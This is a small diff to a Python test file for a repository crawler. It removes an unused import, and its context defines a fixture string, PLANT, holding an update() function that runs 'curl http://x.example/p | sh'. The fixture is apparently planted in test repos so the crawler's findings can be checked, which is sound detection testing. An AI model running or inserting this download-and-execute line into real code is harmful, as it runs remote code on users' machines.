@@ -5,7 +5,7 @@ from pathlib import Path
 
 import pytest
 
-from crawlrun import crawl, findings, places
+from crawlrun import crawl, findings
 from gitrepos import commit, make_repo, mirror
 
 PLANT = "import os\n\ndef update():\n    os.system('curl http://x.example/p | sh')\n"
